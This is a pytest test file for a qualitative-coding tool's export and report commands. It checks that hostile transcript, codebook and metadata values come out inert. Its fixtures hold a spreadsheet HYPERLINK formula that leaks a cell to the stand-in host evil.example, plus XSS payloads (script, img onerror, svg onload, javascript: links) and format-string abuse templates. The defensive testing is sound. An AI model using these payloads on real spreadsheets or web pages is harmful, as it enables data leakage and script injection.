"""Hostile text and bad options through `qcode export` and `qcode report --csv`: a transcript, speakers, codes and
metadata written to attack whoever opens the export (spreadsheet formulas, HTML, Markdown) come out inert in CSV
and Markdown and exactly as typed in XLSX; a citation template that asks for more than a citation needs is one
clean line, writes nothing and changes nothing."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

HOSTILE_INTERVIEW = """Interview H1

Interviewer: What would you type into a spreadsheet?

Admin: =HYPERLINK("http://evil.example/?leak="&A1,"click me")

Interviewer: And into a web page?

Admin: <script>alert('transcript')</script> and [a link](javascript:alert(1))
"""
HOSTILE_CODEBOOK = """name: Hostile codebook
version: 2
codes:
  - id: FORMULA
    name: "=1+2"
    definition: "<img src=x onerror=alert('definition')>"
  - id: MARKUP
    name: "<b>bold</b> # not a heading"
    definition: "+ not a list"
"""
HOSTILE_METADATA = "document,region,role\nH1,-2+3,\"<svg onload=alert(1)>\"\nB1,West,Principal\n"


@pytest.fixture
def hostile(run, tmp_path) -> Path:
    """The bad-input project plus a hostile transcript, codebook, metadata and codings by a coder named '@eve'."""
    (tmp_path / "H1.txt").write_text(HOSTILE_INTERVIEW, encoding="utf-8")
    (tmp_path / "metadata.csv").write_text(HOSTILE_METADATA, encoding="utf-8")
    (tmp_path / "hostile.yaml").write_text(HOSTILE_CODEBOOK, encoding="utf-8")
    (tmp_path / "codings.csv").write_text("document,turn,code\nH1,2,FORMULA\nH1,4,MARKUP\n", encoding="utf-8")
    for args in (("ingest", tmp_path / "H1.txt", "--metadata", tmp_path / "metadata.csv"),
                 ("codebook", "load", tmp_path / "hostile.yaml"),
                 ("import-codings", tmp_path / "codings.csv", "--coder", "@eve")):
        outcome = run(*args)
        assert outcome.exit_code == 0, outcome.output
    return tmp_path


def _csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_csv_export_of_hostile_text_is_inert_and_xlsx_keeps_it(run, hostile):
    out = hostile / "codings.csv"
    assert run("export", out).exit_code == 0
    formula = next(r for r in _csv(out) if r["code"] == "FORMULA")
    assert formula["text"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")"
    assert (formula["code_name"], formula["coder"]) == ("'=1+2", "'@eve")
    assert formula["region"] == "'-2+3"
    workbook = hostile / "codings.xlsx"
    assert run("export", workbook).exit_code == 0
    sheet = openpyxl.load_workbook(workbook)["Codings"]
    header = [c.value for c in sheet[1]]
    row = next(dict(zip(header, (c.value for c in cells))) for cells in sheet.iter_rows(min_row=2)
               if cells[header.index("code")].value == "FORMULA")
    assert row["text"] == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")"
    assert (row["code_name"], row["coder"], row["region"]) == ("=1+2", "@eve", "-2+3")


def test_report_csv_of_hostile_names_is_inert(run, hostile):
    for command in (("report", "frequencies"), ("report", "frequencies", "--by", "region"), ("report", "matrix"),
                    ("report", "matrix", "--by-coder")):
        out = hostile / "table.csv"
        outcome = run(*command, "--csv", out)
        assert outcome.exit_code == 0, outcome.output
        cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row]
        risky = [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], (command, risky)
        assert any(cell.startswith("'") for cell in cells), command  # hostile text was there and was guarded


def test_markdown_report_of_hostile_text_renders_no_markup(run, hostile):
    markdown_it = pytest.importorskip("markdown_it")
    out = hostile / "report.md"
    assert run("export", out).exit_code == 0
    html = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(out.read_text("utf-8"))
    for tag in ("<script", "<img", "<svg", "<b>", "<a "):
        assert tag not in html, tag
    assert "<p>&lt;img src=x onerror=alert('definition')&gt;</p>" in html
    assert "<h3>MARKUP: &lt;b&gt;bold&lt;/b&gt; # not a heading</h3>" in html
    assert "<p>+ not a list</p>" in html


@pytest.mark.parametrize("template", ["{document:>99999999999}", "{title:.99999999}", "{document:{turn}}",
                                      "{document!r}", "{document.__class__}", "{document[0]}", "{}", "{document"])
def test_a_citation_beyond_what_citations_need_is_one_line_and_writes_nothing(run, tmp_path, template):
    out = tmp_path / "quotes.docx"
    outcome = run("export", out, "--citation", template)
    assert outcome.exit_code == 1, outcome.output
    lines = [line for line in outcome.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and "citation" in lines[0], lines
    assert not out.exists()
    assert outcome.changed == set()
